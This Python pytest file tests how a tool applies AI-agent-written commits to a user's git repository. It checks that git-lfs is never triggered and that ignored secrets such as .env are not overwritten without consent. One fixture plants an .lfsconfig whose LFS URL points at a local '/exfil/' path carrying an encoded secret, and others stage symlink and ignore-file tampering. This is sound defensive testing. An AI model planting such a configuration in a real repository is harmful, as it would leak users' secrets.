"""``agentbox apply`` on agent-written content: no host program runs, no user file is lost.

Real git and a real git-lfs (Debian's): the result carries an ``.lfsconfig``
pointing git-lfs at a local HTTP listener, a ``.gitattributes`` with
``filter=lfs`` and an LFS pointer. With git-lfs set up the usual way (global
config, or the repo's own), applying must never contact the listener and must
write the pointer as it is. And a result that rewrites ``.gitignore`` and
writes over the user's ignored ``.env`` (or turns a directory holding one into a
link) is refused with the list, nothing changed, unless ``overwrite_ignored``.
"""

from __future__ import annotations

import http.server
import os
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from agentbox.collect._apply import apply_result
from agentbox.errors import PolicyRefused, RefusedError
from git_helpers import commit_repo, git

#: The host's real git-lfs must be there to prove it never runs (AGENTBOX_REQUIRE: gitlfs).
pytestmark = pytest.mark.gitlfs

POINTER = (
    "version https://git-lfs.github.com/spec/v1\n"
    "oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\n"
    "size 12345\n"
)


class _Listener(http.server.ThreadingHTTPServer):
    hits: list[str]


@pytest.fixture
def listener() -> Iterator[_Listener]:
    """A local HTTP server that must never be contacted; it records every request."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def _any(self) -> None:
            srv.hits.append(f"{self.command} {self.path}")
            self.send_response(404)
            self.end_headers()

        do_GET = do_POST = do_PUT = _any

        def log_message(self, *a: object) -> None:
            pass

    srv = _Listener(("127.0.0.1", 0), Handler)
    srv.hits = []
    t = threading.Thread(target=srv.serve_forever, daemon=True)
    t.start()
    yield srv
    srv.shutdown()
    srv.server_close()


def _snapshot(root: Path) -> dict[str, tuple[str, str]]:
    """Every path of the work tree (``.git`` aside): kind and content or link target."""
    out: dict[str, tuple[str, str]] = {}
    for dirpath, dirs, files in os.walk(root):
        rel = os.path.relpath(dirpath, root)
        if rel == ".git" or rel.startswith(".git/"):
            continue
        for name in dirs + files:
            p = Path(dirpath, name)
            key = os.path.normpath(os.path.join(rel, name))
            if key == ".git":
                continue
            if p.is_symlink():
                out[key] = ("link", os.readlink(p))
            elif p.is_dir():
                out[key] = ("dir", "")
            else:
                out[key] = ("file", p.read_text(errors="replace"))
    return out


def _result_branch(user: Path, tmp: Path, files: dict[str, str], *, links: dict[str, str]
                   | None = None, remove: list[str] | None = None) -> str:  # fmt: skip
    """A commit on ``agentbox/t1`` in ``user``: its HEAD plus ``files`` and ``links``, minus
    ``remove`` (made in a clone without any filter configured, as the shadow dir does)."""
    agent = tmp / "agent"
    subprocess.run(["git", "clone", "-q", str(user), str(agent)], check=True,
                   env={"PATH": os.environ["PATH"], "GIT_CONFIG_GLOBAL": "/dev/null",
                        "GIT_CONFIG_NOSYSTEM": "1", "HOME": "/nonexistent"})  # fmt: skip
    for name in remove or []:
        git(agent, "rm", "-rq", name)
    for name, text in files.items():
        (agent / name).parent.mkdir(parents=True, exist_ok=True)
        (agent / name).write_text(text)
    for name, target in (links or {}).items():
        os.symlink(target, agent / name)
    git(agent, "add", "-A")
    git(agent, "commit", "-qm", "agent's work")
    git(user, "fetch", "-q", str(agent), "HEAD:refs/heads/agentbox/t1")
    return git(user, "rev-parse", "agentbox/t1").strip()


@pytest.mark.parametrize("where", ["global", "local"])
def test_apply_never_runs_git_lfs_on_the_result(
    tmp_path: Path, listener: _Listener, monkeypatch: pytest.MonkeyPatch, where: str
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    user = commit_repo(tmp_path / "repo", {"README.md": "hi\n", "secret.txt": "s3cret\n"})
    port = listener.server_address[1]
    commit = _result_branch(user, tmp_path, {
        ".lfsconfig": f"[lfs]\n\turl = http://127.0.0.1:{port}/exfil/czNjcmV0\n",
        ".gitattributes": "*.bin filter=lfs diff=lfs merge=lfs -text\n",
        "data.bin": POINTER,
    })  # fmt: skip
    # git-lfs set up the usual way: `git lfs install` (the user's global config), or the
    # repo's own config (`git lfs install --local`).
    env = {**os.environ, "HOME": str(home)}
    cmd = ["git", "lfs", "install", "--skip-repo"] if where == "global" else [
        "git", "-C", str(user), "lfs", "install", "--local", "--skip-repo"]  # fmt: skip
    subprocess.run(cmd, check=True, env=env, capture_output=True)
    assert "filter.lfs" in subprocess.run(
        ["git", "-C", str(user), "config", "--get-regexp", "^filter\\.lfs"],
        env=env, capture_output=True, text=True, check=True).stdout  # fmt: skip
    done = apply_result(user, task_id="t1", branch="agentbox/t1", commit=commit)
    assert listener.hits == []
    assert done.how == "fast-forward"
    assert done.pointers == ["data.bin"]
    assert (user / "data.bin").read_text() == POINTER
    assert git(user, "rev-parse", "HEAD").strip() == commit


def _precious(tmp_path: Path) -> Path:
    """A repo with ignored ``.env``, ``notes.local``, ``srcdir/local.cfg`` and an untracked
    ``scratch.txt`` (the user's, never committed)."""
    user = tmp_path / "repo"
    user.mkdir()
    git(user, "init", "-q", "-b", "main")
    (user / ".gitignore").write_text(".env\nnotes.local\nsrcdir/local.cfg\n")
    (user / "README.md").write_text("hi\n")
    (user / "srcdir").mkdir()
    (user / "srcdir/a.txt").write_text("tracked\n")
    git(user, "add", "-A")
    git(user, "commit", "-qm", "init")
    (user / ".env").write_text("SECRET=user-precious\n")
    (user / "notes.local").write_text("mine\n")
    (user / "srcdir/local.cfg").write_text("db_password=hunter2\n")
    (user / "scratch.txt").write_text("untracked, not ignored\n")
    return user


@pytest.mark.parametrize("how", ["fast-forward", "cherry-pick", "checkout"])
def test_apply_refuses_to_overwrite_ignored_and_untracked_files(tmp_path: Path, how: str) -> None:
    user = _precious(tmp_path)
    commit = _result_branch(
        user, tmp_path,
        {".gitignore": "", ".env": "SECRET=agent\n", "notes.local": "agent\n",
         "scratch.txt": "agent\n"},
        links={"srcdir": "/tmp"}, remove=["srcdir"],
    )  # fmt: skip
    if how == "cherry-pick":
        (user / "other.txt").write_text("user's commit\n")
        git(user, "add", "other.txt")
        git(user, "commit", "-qm", "user's own")
    before = _snapshot(user)
    head = git(user, "rev-parse", "HEAD").strip()
    with pytest.raises(PolicyRefused) as exc:
        apply_result(user, task_id="t1", branch="agentbox/t1", commit=commit,
                     checkout=how == "checkout")  # fmt: skip
    for name in (".env", "notes.local", "srcdir/local.cfg", "scratch.txt"):
        assert name in str(exc.value)
    assert _snapshot(user) == before
    assert git(user, "rev-parse", "HEAD").strip() == head
    # With the user's consent the ignored files are overwritten (git itself still refuses
    # to overwrite an untracked file that is not ignored).
    (user / "scratch.txt").unlink()
    done = apply_result(user, task_id="t1", branch="agentbox/t1", commit=commit,
                        checkout=how == "checkout", overwrite_ignored=True)  # fmt: skip
    assert done.how == {"cherry-pick": "cherry-picked", "checkout": "checked out"}.get(how, how)
    assert (user / ".env").read_text() == "SECRET=agent\n"


def test_apply_leaves_untouched_paths_alone(tmp_path: Path) -> None:
    """Ignored files the result does not touch do not refuse the apply (no false alarm)."""
    user = _precious(tmp_path)
    commit = _result_branch(user, tmp_path, {"srcdir/b.txt": "new\n", "README.md": "changed\n"})
    done = apply_result(user, task_id="t1", branch="agentbox/t1", commit=commit)
    assert done.how == "fast-forward"
    assert (user / "srcdir/local.cfg").read_text() == "db_password=hunter2\n"


def test_a_conflicting_apply_leaves_the_work_tree_as_it_was(tmp_path: Path) -> None:
    user = _precious(tmp_path)
    commit = _result_branch(user, tmp_path, {"README.md": "agent\n", "new.txt": "agent\n"})
    (user / "README.md").write_text("user\n")
    git(user, "commit", "-qam", "user's own")
    before = _snapshot(user)
    with pytest.raises(RefusedError, match="conflict"):
        apply_result(user, task_id="t1", branch="agentbox/t1", commit=commit)
    assert _snapshot(user) == before
